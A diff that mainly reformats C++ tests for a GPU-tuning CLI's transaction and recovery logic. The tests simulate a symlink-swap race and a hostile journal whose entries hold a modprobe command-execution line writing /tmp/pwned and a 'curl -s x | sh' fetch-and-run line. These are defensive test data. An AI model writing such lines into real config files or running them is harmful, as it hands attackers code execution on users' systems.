@@ -5,7 +5,6 @@
 #include <filesystem>
 
 #include <fmt/format.h>
-
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
@@ -43,14 +42,14 @@ TEST(TransactionCliTest, TheHelperWritesIntoTheRootThatWasPlannedEvenIfThePathMo
   testing::TestTree scripts;
   const std::string moved = w.root() + ".planned";
   scripts.Write("swap-then-help",
-                fmt::format("#!/bin/sh\nmv '{}' '{}' && ln -s '{}' '{}' || exit 99\nexec '{}' \"$@\"\n", w.root(), moved,
-                            other.root(), w.root(), ROCMTUNE_HELPER_BINARY));
+                fmt::format("#!/bin/sh\nmv '{}' '{}' && ln -s '{}' '{}' || exit 99\nexec '{}' \"$@\"\n", w.root(),
+                            moved, other.root(), w.root(), ROCMTUNE_HELPER_BINARY));
   scripts.Chmod("swap-then-help", 0755);
   ::setenv("ROCMTUNE_HELPER", scripts.Path("swap-then-help").c_str(), 1);
   auto set = w.Ctl({"set", "amdgpu.noretry=0", "--json"});
   ::unsetenv("ROCMTUNE_HELPER");
-  std::filesystem::remove(w.root());            // the link the "attacker" left
-  std::filesystem::rename(moved, w.root());     // so the tree is cleaned up as usual
+  std::filesystem::remove(w.root());         // the link the "attacker" left
+  std::filesystem::rename(moved, w.root());  // so the tree is cleaned up as usual
   ASSERT_EQ(set.exit_code, kExitOk) << set.out << set.err;
   EXPECT_EQ(set.Json()["changed"], true) << set.out;
   EXPECT_TRUE(w.Exists(kConf)) << "committed into the directory that was planned";
@@ -68,11 +67,23 @@ TEST(TransactionCliTest, AHostileJournalCannotMakeRecoveryWriteWhatNoPlanMay) {
   txn.id = "1";
   txn.time = "2026-11-23T00:00:00Z";
   txn.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
-  plan::Op conf{plan::OpKind::kRemoveFile, plan::BackendId::kModprobe, kConf, "install amdgpu /bin/sh -c 'id >/tmp/pwned'\n",
-                std::nullopt, {}, "r"};
-  plan::Op profile{plan::OpKind::kRemoveFile, plan::BackendId::kEnv, "etc/profile.d/rocmtune.sh", "curl -s x | sh\n", std::nullopt, {}, "r"};
+  plan::Op conf{plan::OpKind::kRemoveFile,
+                plan::BackendId::kModprobe,
+                kConf,
+                "install amdgpu /bin/sh -c 'id >/tmp/pwned'\n",
+                std::nullopt,
+                {},
+                "r"};
+  plan::Op profile{plan::OpKind::kRemoveFile,
+                   plan::BackendId::kEnv,
+                   "etc/profile.d/rocmtune.sh",
+                   "curl -s x | sh\n",
+                   std::nullopt,
+                   {},
+                   "r"};
   txn.ops = {conf, profile};
-  w.Write(std::string(journal::kJournalDir) + "/" + journal::JournalFileName(1), journal::BeginRecord(txn).dump() + "\n");
+  w.Write(std::string(journal::kJournalDir) + "/" + journal::JournalFileName(1),
+          journal::BeginRecord(txn).dump() + "\n");
 
   auto set = w.Ctl({"set", "amdgpu.noretry=0", "--json"});
   ASSERT_EQ(set.exit_code, kExitOk) << set.out << set.err;
@@ -93,8 +104,9 @@ TEST(TransactionCliTest, AHostileJournalCannotMakeRecoveryWriteWhatNoPlanMay) {
 TEST(TransactionCliTest, AMalformedHelperReplyIsAFailureNotAnAbort) {
   WorldCopy w(kWorld);
   testing::TestTree scripts;
-  for (std::string reply : {std::string(R"({"status": 5, "transaction": [], "regenerated": {"initramfs": 1}, "messages": [2]})"),
-                            std::string(20000, '[')}) {
+  for (std::string reply :
+       {std::string(R"({"status": 5, "transaction": [], "regenerated": {"initramfs": 1}, "messages": [2]})"),
+        std::string(20000, '[')}) {
     SCOPED_TRACE(reply.substr(0, 40));
     scripts.Write("reply", reply);
     scripts.Write("fake-helper", fmt::format("#!/bin/sh\ncat >/dev/null\ncat '{}'\nexit 0\n", scripts.Path("reply")));
